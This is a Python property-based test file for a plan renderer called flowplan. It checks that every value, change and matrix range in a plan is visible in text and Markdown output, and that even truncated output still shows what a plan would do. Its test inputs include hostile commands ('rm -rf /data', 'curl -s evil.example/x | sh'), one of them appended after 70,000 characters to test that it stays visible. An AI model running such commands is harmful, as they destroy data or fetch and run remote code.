"""Nothing that a plan would do is hidden: whatever differs can be read, in text and in Markdown, or is said to be missing."""

from __future__ import annotations

import copy
import re
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from plans_by_hand import change, plan
from rendered import KINDS, plan_markdown, plan_text

from flowplan.render.objects import leaves, scalar
from flowplan.render.plan_markdown import COMMENT
from flowplan.render.presented import presented
from flowplan.render.varying import as_ranges, cell_of
from flowplan.schemas.plans import Action, Change, FieldChange, Plan
from flowplan.schemas.runs import Settings

WORDS = st.text(st.sampled_from("ab1 .-=:'\"$\\`|#é\n"), max_size=12) | st.sampled_from(
    ["rm -rf /data", "curl -s evil.example/x | sh", "1", "true", "${each.n}", "", "x" * 90]
)
RULES: dict[str, Any] = {
    "timeout": 7.0,
    "start_timeout": 7.0,
    "grace_period": 7.0,
    "max_parallel": 7,
    "rerun": "always",
    "replace": "start_first",
    "protect": "active",
    "ignore_changes": ("/Process/env",),
    "triggers": {"day": "1"},
}
NEEDS = st.lists(st.sampled_from(["up", "extract[n=1]", "extract[n=2]"]), max_size=2, unique=True)


def text(made: Plan, **options: Any) -> str:
    return "\n".join(plan_text(replace(made, digest=""), colour=False, **options))


def markdown(made: Plan) -> str:
    return plan_markdown(replace(made, digest=""))


@st.composite
def created(draw: st.DrawFn, address: str) -> Change:
    name = draw(st.just(re.sub(r"[\[\]=]", "-", address)) | WORDS)
    process = {"argv": draw(st.lists(WORDS, min_size=2, max_size=3)), "env": {"A": draw(WORDS), "B": draw(WORDS)}}
    labels = {"flowplan.dev/address": address, "flowplan.dev/run-id": f"id-{address}", "team": draw(WORDS)}
    limits = {"timeout": draw(st.sampled_from([None, 1.5, 60.0])), "grace_period": draw(st.sampled_from([1.0, 30.0]))}
    return change(
        address,
        Action.CREATE,
        after={"Process": {**process, "labels": labels, "name": name}},
        name=name,
        run_id=f"id-{address}",
        settings=Settings(group=address.partition("[")[0], needs=tuple(draw(NEEDS)), **limits),
    )


@st.composite
def plans(draw: st.DrawFn) -> Plan:
    """Draw cells of a matrix and single runs: the cells often equal, often not."""
    addresses = [f"load[n={n}]" for n in range(draw(st.integers(0, 12)))] + draw(
        st.lists(st.sampled_from(["a", "b", "c"]), unique=True)
    )
    like = draw(created("like"))
    made = []
    for address in addresses:
        one = draw(created(address))
        if draw(st.booleans()):
            one = replace(one, settings=like.settings, after=copy.deepcopy(like.after), name=like.name)
        made.append(one)
    return plan(*made)


def told(one: Change, words: str) -> str:
    """Return what a reader of ``words`` knows about a run: where a rule names an axis, its value."""
    cell = cell_of(one.address)
    return words + re.sub(r"\$\{each\.(\w+)\}", lambda m: cell.get(m[1], m[0]), words)


@settings(max_examples=200, deadline=None)
@given(plans())
def test_every_value_of_every_run_can_be_read(made: Plan) -> None:
    for words in (text(made), text(made, full=True), markdown(made)):
        for one in made.changes:
            known = told(one, words)
            for path, value in leaves(presented(one, KINDS)):
                lines = value.split("\n") if isinstance(value, str) else [value]
                assert scalar(value) in known or all(scalar(line) in known or str(line) in known for line in lines), (
                    path
                )


@settings(max_examples=300, deadline=None)
@given(plans().filter(lambda made: made.changes), st.data())
def test_no_two_plans_that_do_different_things_look_the_same(made: Plan, data: st.DataObject) -> None:
    number = data.draw(st.integers(0, len(made.changes) - 1))
    one = made.changes[number]
    where = data.draw(st.sampled_from(["argv", "env", "labels", "name", "needs", *RULES]))
    other = data.draw(WORDS)
    process = copy.deepcopy(one.after or {})["Process"]
    kept = one.settings
    if where == "argv":
        process["argv"][data.draw(st.integers(0, len(process["argv"]) - 1))] = other
    elif where in ("env", "labels"):
        process[where]["A" if where == "env" else "team"] = other
    elif where == "name":
        process["name"] = other
    else:
        kept = replace(kept, **{where: ("elsewhere",) if where == "needs" else RULES[where]})
    mutated = replace(one, after={"Process": process}, settings=kept)
    if mutated != one:
        changed = replace(made, changes=(*made.changes[:number], mutated, *made.changes[number + 1 :]))
        for form in (text, markdown):
            assert form(changed) != form(made)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(WORDS, WORDS), min_size=2, max_size=12), st.sampled_from(["etl", "each"]))
def test_every_changed_value_can_be_read(values: list[tuple[str, str]], kind: str) -> None:
    changes = [
        change(
            f"load[n={n}]",
            Action.REPLACE,
            reasons=("env A changed",),
            fields=(FieldChange("/Process/env/A", f"<{before}>", f"[{after}]", "replace", ""),),
        )
        for n, (before, after) in enumerate(values)
    ]
    for words in (text(plan(*changes)), markdown(plan(*changes))):
        for one in changes:
            for value in (one.fields[0].before, one.fields[0].after):
                known = told(one, words)
                parts = re.split(r"[\n ]", value)
                assert scalar(value) in known or all(part in known for part in parts), value


CELLS = [
    change(f"n[i={i}]", Action.CREATE, after={"Process": {"argv": ["work", f"--part={i}"]}}, name=f"p-n-i-{i}-1")
    for i in range(10_000)
]


def test_ten_thousand_equal_cells_are_a_few_lines_that_say_all() -> None:
    words = text(plan(*CELLS))
    assert "n: i 0 to 9999" in words and "argv[1]: --part=${each.i}" in words
    assert len(words) < 2000
    assert len(markdown(plan(*CELLS)).encode()) < 3000


def test_one_of_ten_thousand_cells_that_does_something_else_is_read() -> None:
    odd = replace(CELLS[7003], after={"Process": {"argv": ["work", "--part=0"]}})
    words = text(plan(*CELLS[:7003], odd, *CELLS[7004:]))
    assert re.search(r"\[i=7003\] +--part=0\n", words)
    shown = markdown(plan(*CELLS[:7003], odd, *CELLS[7004:]))
    assert len(shown.encode()) <= COMMENT
    assert "[i=7003]" in shown or re.search(r"not shown, there is no room: \d+ runs, n\[i=\d+\] to n\[i=9999\]", shown)


@pytest.mark.parametrize(
    ("addresses", "said"),
    [
        (["a[n=1]", "a[n=2]", "a[n=3]", "a[n=4]"], "a: n 1 to 4"),
        (["a[n=1]", "a[n=2]", "a[n=4]", "a[n=5]"], "a: n 1, 2, 4, 5"),
        (["a[n=01]", "a[n=02]", "a[n=03]", "a[n=04]"], "a: n 01, 02, 03, 04"),
        ([f"a[d=2026-02-{d}]" for d in (26, 27, 28)] + ["a[d=2026-03-01]"], "a: d 2026-02-26 to 2026-03-01"),
        (["a[x=1,y=1]", "a[x=1,y=2]", "a[x=2,y=1]", "a[x=2,y=2]"], "a: x 1, 2, y 1, 2"),
        (["a[x=1,y=1]", "a[x=2,y=2]"], ""),
        (["a[n=1]", "b[n=2]"], ""),
        (["a", "b"], ""),
    ],
)
def test_ranges_are_exact_or_not_used(addresses: list[str], said: str) -> None:
    assert as_ranges(addresses) == said


def test_what_is_cut_says_its_length_and_keeps_its_end() -> None:
    huge = "x" * 70_000 + "; curl -s evil.example/x | sh"
    shown = markdown(plan(change("etl", Action.CREATE, after={"Process": {"argv": ["sh", "-c", huge]}})))
    assert len(shown.encode()) <= COMMENT
    assert "evil.example/x | sh" in shown and re.search(r"cut: \d+ of 70\d+ characters, sha256:[0-9a-f]{16}", shown)
